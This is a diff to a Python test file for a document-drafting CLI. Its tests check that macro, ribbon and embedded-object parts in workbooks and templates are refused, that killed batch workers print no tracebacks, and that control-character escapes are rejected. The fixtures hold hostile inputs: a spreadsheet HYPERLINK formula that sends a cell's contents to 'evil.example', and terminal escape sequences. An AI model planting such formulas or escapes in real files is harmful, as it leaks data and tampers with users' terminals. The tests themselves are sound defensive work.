@@ -222,6 +222,43 @@ def test_ctrl_c_ends_a_paused_batch_every_time(tmp_path):
         assert code == 130 and "Traceback" not in stderr and took < 5
 
 
+def test_sigkill_of_the_batch_parent_leaves_no_worker_traceback(tmp_path):
+    # issue 24: the workers finished their chunk, wrote to the dead parent's pipe and printed
+    # BrokenPipeError tracebacks on the terminal
+    inputs = tmp_path / "in"
+    inputs.mkdir(parents=True)
+    for i in range(24):
+        shutil.copy(NN, inputs / f"c{i:02d}.yaml")
+    out = tmp_path / "out"
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "cli", "batch", str(inputs), "-o", str(out), "-j", "2"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        start_new_session=True,
+        text=True,
+    )
+    deadline = time.monotonic() + 60
+    while not (out.is_dir() and any(p.suffix == ".md" for p in out.iterdir())):
+        assert proc.poll() is None and time.monotonic() < deadline, "the batch did not start"
+        time.sleep(0.02)
+    os.kill(proc.pid, signal.SIGKILL)  # the parent only: its workers are left to notice
+    try:
+        # stderr closes when the last worker (which shares it) has exited
+        _, stderr = proc.communicate(timeout=30)
+    except subprocess.TimeoutExpired:
+        os.killpg(proc.pid, signal.SIGKILL)
+        proc.communicate()
+        pytest.fail("the workers outlived their parent")
+    assert proc.returncode == -signal.SIGKILL
+    assert "Traceback" not in stderr and "Error" not in stderr, stderr
+
+
+@pytest.mark.slow
+def test_sigkill_of_the_batch_parent_leaves_no_worker_traceback_every_time(tmp_path):
+    for i in range(3):  # the race (a chunk half drafted when the parent dies) varies by run
+        test_sigkill_of_the_batch_parent_leaves_no_worker_traceback(tmp_path / str(i))
+
+
 # --- High 5: formula injection -------------------------------------------------------------------
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&B3,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
@@ -359,6 +396,11 @@ def test_sheet_xml_that_does_not_parse_is_a_located_problem(cli, tmp_path, workb
         ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
         ("xl/activeX/activeX1.xml", b"<ax:ocx/>"),
         ("xl/vbaProject.bin", b"\x00"),
+        # issue 24: these drafted although macros are refused
+        ("xl/macros/module1.bin", b"\x00"),
+        ("customUI/customUI.xml", b"<customUI/>"),
+        ("customUI/customUI14.xml", b"<customUI/>"),
+        ("xl/vbaProjectSignature.bin", b"\x00"),
     ],
 )
 def test_every_kind_of_macro_is_refused(cli, tmp_path, workbook, part):
@@ -368,6 +410,47 @@ def test_every_kind_of_macro_is_refused(cli, tmp_path, workbook, part):
     assert lines == [f"{lines[0].split(':')[0]}: " + lines[0].split(": ", 1)[1]]
     assert "macros or embedded objects" in lines[0] and part[0] in lines[0]
     assert bad.read_bytes() == before
+
+
+UI_REL = (
+    b'<Relationship Id="rIdUI" Target="ribbon/ui.xml" '
+    b'Type="http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"/>'
+)
+
+
+def test_a_ribbon_part_under_any_name_is_refused_by_its_relationship(cli, tmp_path, workbook):
+    # customUI drafted although macros are refused: its part may have any name, its relationship
+    # type says what it is
+    with zipfile.ZipFile(workbook) as z:
+        rels = z.read("_rels/.rels")
+    rels = rels.replace(b"</Relationships>", UI_REL + b"</Relationships>")
+    bad = patch_zip(
+        workbook,
+        tmp_path / "ribbon.xlsx",
+        {"_rels/.rels": rels, "ribbon/ui.xml": b'<customUI><button onAction="Run"/></customUI>'},
+    )
+    out = tmp_path / "p.md"
+    lines = clean(*cli("draft", bad, "-o", out))
+    assert len(lines) == 1 and lines[0].endswith(
+        "ribbon.xlsx: the workbook contains macros or embedded objects (VBA, Excel 4 macro "
+        "sheets, OLE, ActiveX or a custom ribbon); they are never run: save it as a plain .xlsx "
+        "without them "
+        "(_rels/.rels)"
+    )
+    assert not out.exists()
+
+
+def test_a_word_template_with_a_ribbon_is_refused(cli, tmp_path):
+    from engine.resources import default_template
+
+    bad = patch_zip(default_template(), tmp_path / "t.docx", {"customUI/customUI14.xml": b"<x/>"})
+    out = tmp_path / "p.docx"
+    lines = clean(*cli("draft", NN, "--template", bad, "-o", out))
+    assert len(lines) == 1 and lines[0].endswith(
+        "t.docx: the template contains macros or embedded objects; save it as a plain .docx "
+        "without them (customUI/customUI14.xml)"
+    )
+    assert not out.exists()
 
 
 def test_excel_error_values_are_not_answers(cli, tmp_path, workbook):
@@ -400,7 +483,11 @@ def test_hidden_sheets_are_not_drafted_by_batch(cli, tmp_path, knowledge):
 
 
 @pytest.mark.parametrize("fmt", ["md", "html", "json", "docx"])
-@pytest.mark.parametrize("escape", ["\\ud800", "\\e]0;pwned\\a", "\\0", "\\x7f", "\\x85", "\\e[2J"])
+@pytest.mark.parametrize(
+    # issue 24: the noncharacters "\\uffff" and "\\ufdd0" passed into documents
+    "escape",
+    ["\\ud800", "\\e]0;pwned\\a", "\\0", "\\x7f", "\\x85", "\\e[2J", "\\uffff", "\\ufdd0"],
+)
 def test_escapes_decoding_to_control_characters_are_refused(cli, tmp_path, escape, fmt):
     bad = nn_text(tmp_path, f'cluster_name: "A {escape} B"')
     out = tmp_path / f"p.{fmt}"
@@ -610,7 +697,8 @@ def test_many_keys_or_items_are_refused_before_parsing(cli, tmp_path, body):
     bad = tmp_path / "many.yaml"
     bad.write_text("cluster_name: X\n" + body, "utf-8")
     lines = clean(*cli("draft", bad))
-    assert lines == [lines[0]] and "many.yaml: too many lines and list items" in lines[0]
+    assert lines == [lines[0]] and "many.yaml: too many values: " in lines[0]
+    assert "(blank and comment lines not counted); the limit is 100000" in lines[0]
 
 
 # --- Low -----------------------------------------------------------------------------------------
